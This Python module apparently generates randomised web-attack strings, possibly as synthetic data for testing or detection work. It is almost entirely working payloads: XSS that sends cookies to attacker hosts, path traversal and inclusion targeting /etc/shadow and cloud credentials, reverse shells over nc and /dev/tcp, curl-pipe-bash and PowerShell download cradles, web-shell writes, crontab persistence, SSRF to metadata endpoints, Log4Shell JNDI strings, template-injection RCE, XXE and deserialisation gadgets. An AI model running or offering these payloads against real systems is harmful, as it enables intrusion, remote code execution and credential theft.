"""Hostile texts other than SQL: what is put into a parameter, by what it is after."""

from __future__ import annotations

import base64

from generator.world import World


def _out(world: World) -> str:
    """Where an attacker listens."""
    return world.pick([world.ip_public(), world.ip_public(), f"{world.word(10)}.oast.fun", f"{world.word(8)}.{world.pick(['xyz', 'top', 'com', 'net', 'ru'])}", f"{world.hex(12)}.interact.sh", f"{world.word(6)}.ngrok.io"])


def xss(world: World) -> str:
    out = _out(world)
    call = world.pick(["alert(1)", "alert(document.cookie)", "prompt(1)", "confirm`1`", f"fetch('//{out}/?c='+document.cookie)", f"document.location='http://{out}/s?c='+document.cookie", f"new Image().src='//{out}/'+btoa(localStorage.token)", f"import('//{out}/x.js')", "alert(String.fromCharCode(88,83,83))", "eval(atob('YWxlcnQoMSk='))", "window['al'+'ert'](1)", f"$.getScript('//{out}/j')", "top[/al/.source+/ert/.source](1)", "print()", "alert(/xss/)"])
    return world.pick([f"<script>{call}</script>", f'"><script>{call}</script>', f"<img src=x onerror={call}>", f'"><img src=x onerror="{call}">', f"<svg onload={call}>", f"<svg/onload={call}//", f"'-{call}-'", f"</script><script>{call}</script>", f"<body onload={call}>", f"javascript:{call}", f"<iframe src=javascript:{call}>", f'" onmouseover="{call}" x="', f"<details open ontoggle={call}>", f"<ScRiPt>{call}</sCrIpT>", f"<script src=//{out}/x.js></script>", f"<input autofocus onfocus={call}>", f"<a href=\"jAvAsCrIpT:{call}\">x</a>", f"<video><source onerror={call}>", f"<marquee onstart={call}>x</marquee>", f"<math><mtext></form><form><mglyph><style></math><img src onerror={call}>", f"<object data=javascript:{call}>", f"%3Cscript%3E{call}%3C/script%3E", f"<scr<script>ipt>{call}</scr</script>ipt>", f"';{call};//", f"\\u003cscript\\u003e{call}", f"<x onpointerenter={call}>", f"<form action=javascript:{call}><input type=submit>", f"{{{{constructor.constructor('{call}')()}}}}", f"data:text/html;base64,{base64.b64encode(('<script>' + call + '</script>').encode()).decode()}", f"<meta http-equiv=refresh content=\"0;url=http://{out}\">", f"<style>@import'//{out}'</style>"])


_FILES = ("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "windows/win.ini", "boot.ini", "var/log/apache2/access.log", "var/www/html/wp-config.php", "root/.ssh/id_rsa", "windows/system32/drivers/etc/hosts", "etc/mysql/my.cnf", "home/ubuntu/.aws/credentials", "var/log/auth.log", "WEB-INF/web.xml", "inetpub/wwwroot/web.config", "opt/tomcat/conf/tomcat-users.xml", "app/.env", "root/.bash_history", "etc/kubernetes/admin.conf", "windows/repair/sam", "var/run/secrets/kubernetes.io/serviceaccount/token", "config/database.yml", "etc/nginx/nginx.conf", "usr/local/etc/php.ini", "proc/1/cgroup", "etc/issue", "var/lib/grafana/grafana.db")


def traversal(world: World) -> str:
    """Dots that climb, in one of many writings."""
    step = world.pick(["../", "../", "../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e%252f", "..%5c", "..%c0%af", "....//", "..;/", "..%00/", ".%2e/", "%%32%65%%32%65/", "..%u2215", "..././", "%c0%ae%c0%ae/", "..%255c", "/..", "%uff0e%uff0e/", "\\..\\.."])
    name = world.pick(_FILES)
    if "5c" in step or "\\" in step:
        name = world.pick(["windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config"]).replace("/", world.pick(["\\", "%5c", "/"]))
    return world.pick(["", "", "/", "./", "images/", "static/", "C:\\", "uploads"]) + step * world.number(2, 12) + ("" if not step.startswith("/") else "/") + name + world.pick(["", "", "", "%00", "%00.jpg", "?", ".html", "%23", "\\0"])


def inclusion(world: World) -> str:
    """Files taken in by absolute name or through a wrapper."""
    name = world.pick(_FILES)
    return world.pick([f"/{name}", f"/{name}", f"/{name}%00", f"php://filter/convert.base64-encode/resource={world.pick(['index', 'config.php', '../config', 'wp-config.php', 'index.php', 'admin/login.php'])}", "php://input", f"php://filter/read=string.rot13/resource={world.pick(['index.php', 'db.inc'])}", f"data://text/plain;base64,{base64.b64encode(b'<?php system($_GET[c]);?>').decode()}", "expect://id", f"file:///{name}", f"zip://uploads/avatar.jpg%23{world.word(4)}", "phar://uploads/img.phar/test.txt", f"http://{_out(world)}/{world.word(5)}.txt?", f"//{_out(world)}/shell.txt", f"\\\\{world.ip_public()}\\share\\{world.word(4)}.php", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=php://temp", "/var/log/nginx/access.log&c=id", "/proc/self/fd/12", "/tmp/sess_" + world.hex(26), f"ftp://{_out(world)}/r57.txt", f"c:/windows/{world.pick(['win.ini', 'system.ini', 'php.ini'])}", "/usr/local/lib/php/pearcmd.php&+config-create+/<?=eval($_POST[1])?>+/tmp/a.php"])


def shell_order(world: World) -> str:
    """What an attacker runs first."""
    out, name = _out(world), world.word(world.number(1, 6))
    return world.pick(["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", f"wget http://{out}/{name}.sh -O /tmp/{name};sh /tmp/{name}", f"curl -fsSL {out}/{name} | bash", f"bash -i >& /dev/tcp/{out}/{world.number(1024, 9999)} 0>&1", f"nc {out} {world.number(80, 9999)} -e /bin/sh", f"cd /tmp; rm -rf *; wget http://{out}/{name}.mips; chmod 777 {name}.mips; ./{name}.mips", f"busybox tftp -g -r {name} {out}", f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{out}\",4444));pty.spawn(\"/bin/sh\")'", f"ping -c 4 {out}", f"nslookup {name}.{out}", "sleep 10", "ifconfig", "ps aux", "env", f"echo {base64.b64encode(('curl ' + out).encode()).decode()}|base64 -d|sh", f"perl -e 'use Socket;$i=\"{out}\";'", "cat wp-config.php", f"printf '<?php eval($_POST[x]);?>' > {name}.php", "expr 268409241 - 2", f"php -r 'fsockopen(\"{out}\",53);'", "head -n 5 /etc/shadow", f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {out} 9001 >/tmp/f", "find / -perm -4000", f"crontab -l | {{ cat; echo '* * * * * curl {out}'; }} | crontab -", f"(curl -s {out}||wget -qO- {out})|sh"])


def windows_order(world: World) -> str:
    out, name = _out(world), world.word(world.number(2, 6))
    blob = base64.b64encode(f"IEX(New-Object Net.WebClient).DownloadString('http://{out}')".encode("utf-16le")).decode()
    return world.pick(["whoami", "whoami /priv", "dir c:\\", "type c:\\windows\\win.ini", "net user", "ipconfig /all", f"net user {name} P@ssw0rd1 /add", f"powershell -enc {blob[:80]}", f"powershell -nop -w hidden -c \"iex(iwr http://{out}/{name}.ps1 -useb)\"", f"certutil -urlcache -split -f http://{out}/{name}.exe c:\\users\\public\\{name}.exe", f"bitsadmin /transfer n http://{out}/{name}.exe %temp%\\{name}.exe", f"mshta http://{out}/{name}.hta", "tasklist", "systeminfo", "cmd.exe /c set", f"cmd /c echo ^<%eval request(1)%^>>c:\\inetpub\\wwwroot\\{name}.asp", "nltest /domain_trusts", "reg query hklm\\sam", f"ping -n 5 {out}", f"rundll32 \\\\{out}\\s\\{name}.dll,0", f"curl.exe http://{out}/{name} -o c:\\programdata\\{name}.exe", "net localgroup administrators", "wmic process list brief"])


def command(world: World) -> str:
    """An order behind what the program expected."""
    windows = world.chance(0.3)
    order = windows_order(world) if windows else shell_order(world)
    lead = world.pick(["127.0.0.1", "8.8.8.8", "1", "test", "", "localhost", "x", world.word(4), "a.jpg"])
    if windows:
        return lead + world.pick(["&", "|", "&&", "||", "%26", "\r\n"]) + order
    glue = world.pick([";{};", "|{}", "||{}", "&&{}", "`{}`", "$({})", ";{}#", "\n{}", "|{}|", "& {} &", "';{};'", '";{};"', "%0a{}", "{{{}}}", "<({})"])
    if world.chance(0.15):
        order = order.replace(" ", world.pick(["${IFS}", "$IFS$9", "{,}", "%09"]))
    return lead + glue.replace("{}", order, 1)


def ssrf(world: World) -> str:
    return world.pick(["http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", f"http://169.254.169.254/latest/meta-data/iam/security-credentials/{world.pick(['admin', 'ec2-role', 'web', 'EC2-S3-Access'])}", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/", "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "http://[fd00:ec2::254]/latest/user-data", "http://2852039166/latest/meta-data", "http://0xA9FEA9FE/latest/meta-data/", "http://0251.0376.0251.0376/", "http://[::ffff:169.254.169.254]/", "http://169.254.169.254.nip.io/latest/", "http://127.0.0.1:22", "http://localhost:6379/", f"gopher://127.0.0.1:6379/_%0D%0ASET%20x%201", f"gopher://localhost:25/_HELO%20{world.word(4)}", "dict://127.0.0.1:11211/stats", "file:///etc/passwd", "ldap://localhost:389/", "http://0.0.0.0:2375/containers/json", "http://127.0.0.1:9200/_cat/indices", "http://2130706433/admin", "http://127.1:8080/manager/html", "http://0x7f000001/server-status", f"http://{world.ip_private()}:{world.pick([22, 445, 3306, 5432, 6379, 8500, 9200, 2375, 5985])}/", f"http://{world.word(8)}.{world.pick(['oast.pro', 'burpcollaborator.net', 'interact.sh', 'dnslog.cn'])}/", "http://localhost:8500/v1/kv/?recurse", "http://kubernetes.default.svc/api/v1/secrets", "http://[::1]:5984/_all_dbs", "jar:http://127.0.0.1!/", "http://127.0.0.1%23@own.example/", "http://consul.service:8500/v1/agent/self", "sftp://" + _out(world) + ":1337/", "tftp://" + _out(world) + "/x", "netdoc:///etc/passwd", "http://localtest.me:8080/actuator/env", "http://169.254.170.2/v2/credentials/" + world.uuid()])


def template(world: World) -> str:
    """Expressions that a template engine runs."""
    order = world.pick(["id", "whoami", "cat /etc/passwd", "ls"])
    number = world.pick(["7*7", "7*'7'", "1337*1337", f"{world.number(100, 999)}*{world.number(100, 999)}"])
    return world.pick([f"{{{{{number}}}}}", f"${{{number}}}", f"<%= {number} %>", f"#{{{number}}}", f"*{{{number}}}", f"{{{{config.__class__.__init__.__globals__['os'].popen('{order}').read()}}}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{order}').read()}}}}", f"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{order}\")}}", f"${{T(java.lang.Runtime).getRuntime().exec('{order}')}}", f"{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}{{{{_self.env.getFilter('{order}')}}}}", f"{{{{['{order}']|filter('system')}}}}", "{{lipsum.__globals__.os.environ}}", f"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('{order}')", f"{{php}}system('{order}');{{/php}}", f"{{system('{order}')}}", "{{self._TemplateReference__context.cycler}}", f"@(System.Diagnostics.Process.Start(\"cmd\",\"/c {order}\"))", f"<%= `{order}` %>", f"{{{{constructor.constructor('return process.mainModule.require(\"child_process\").execSync(\"{order}\")')()}}}}", f"${{self.module.cache.util.os.system('{order}')}}", f"*{{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('{order}').getInputStream())}}", f"__${{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"{order}\").getInputStream()).next()}}__::.x", f"%{{(#a=@java.lang.Runtime@getRuntime().exec('{order}'))}}"])


def jndi(world: World) -> str:
    scheme = world.pick(["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba"])
    lead = world.pick(["${jndi:", "${jndi:", "${jndi:", "${${lower:j}ndi:", "${${::-j}${::-n}${::-d}${::-i}:", "${jn${env:x:-}di:", "${${env:NaN:-j}ndi${env:NaN:-:}", "${j${k8s:k5:-ND}i:", "${${lower:jnd}${lower:${upper:i}}:", "${${date:'j'}${date:'n'}di:", "$%7Bjndi:", "${${upper:j}${upper:n}${lower:d}i:"])
    tail = world.pick(["/a", f"/{world.word(6)}", "/Exploit", f"/Basic/Command/Base64/{base64.b64encode(b'curl x|sh').decode()}", "/${env:AWS_SECRET_ACCESS_KEY}", "/${sys:java.version}", "/TomcatBypass/Command", f":{world.pick([389, 1389, 1099, 53, 8888])}/{world.word(3)}", "/#Payload", "/${hostName}"])
    return f"{lead}{scheme}://{_out(world)}{tail}}}"


def shellshock(world: World) -> str:
    return f"{world.pick(['() { :; };', '() { :;};', '() { ignored;};', '() { foo;};', '() { _; } >_[$($())] {', '() { (a)=>'])} {world.pick(['/bin/bash -c', 'echo; echo;', '/bin/sh -c', '/usr/bin/env bash -c', 'echo Content-Type: text/plain;'])} '{shell_order(world)}'"


def entity(world: World) -> str:
    """XML with an entity from outside."""
    return world.pick([f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY {world.word(3)} SYSTEM "file:///etc/passwd">]><r>&x;</r>', f'<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://{_out(world)}/{world.word(4)}.dtd"> %xxe;]>', '<!DOCTYPE data [<!ENTITY a0 "dos"><!ENTITY a1 "&a0;&a0;&a0;">]><data>&a1;</data>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "php://filter/convert.base64-encode/resource=config.php">]><x>&e;</x>', '<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///c:/windows/win.ini">]><svg>&f;</svg>', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/shadow"/>', '<!DOCTYPE r [<!ENTITY m SYSTEM "http://169.254.169.254/latest/user-data">]><r>&m;</r>'])


def serialised(world: World) -> str:
    """Objects that run code when they are read."""
    return world.pick([f"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1Z{world.hex(40)}", 'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}', f'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{{s:9:"*events";O:15:"Faker\\Generator":1:{{}}}}', f"AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0{world.hex(30)}", "cos\\nsystem\\n(S'id'\\ntR.", f"gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt{world.hex(14)}", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + _out(world) + '/a","autoCommit":true}', '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + _out(world) + "\"]]]]", f"/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA{world.hex(30)}", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$values":["cmd","/c calc"]}}', 'a:1:{i:0;O:18:"PHPObjectInjection":1:{s:6:"inject";s:17:"system(\'whoami\');";}}', "--- !ruby/object:Gem::Installer i: x", '{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}'])


def document_query(world: World) -> str:
    """Operators of document databases and directories where a plain value belongs."""
    return world.pick(['{"$ne": null}', '{"$gt": ""}', '{"$regex": "^a"}', "' || this.password.match(/^a/) || 'a'=='b", '{"$where": "sleep(5000)"}', "*)(uid=*))(|(uid=*", "*)(objectClass=*", "admin)(&)", "' or count(/user)=1 or '1'='2", "'; return true; var x='", '{"username": {"$in": ["admin","root"]}, "password": {"$ne": 1}}', "1;sleep(5000)", "*)(|(password=*)", "' and string-length(name(/*[1]))=5 and '1'='1"])
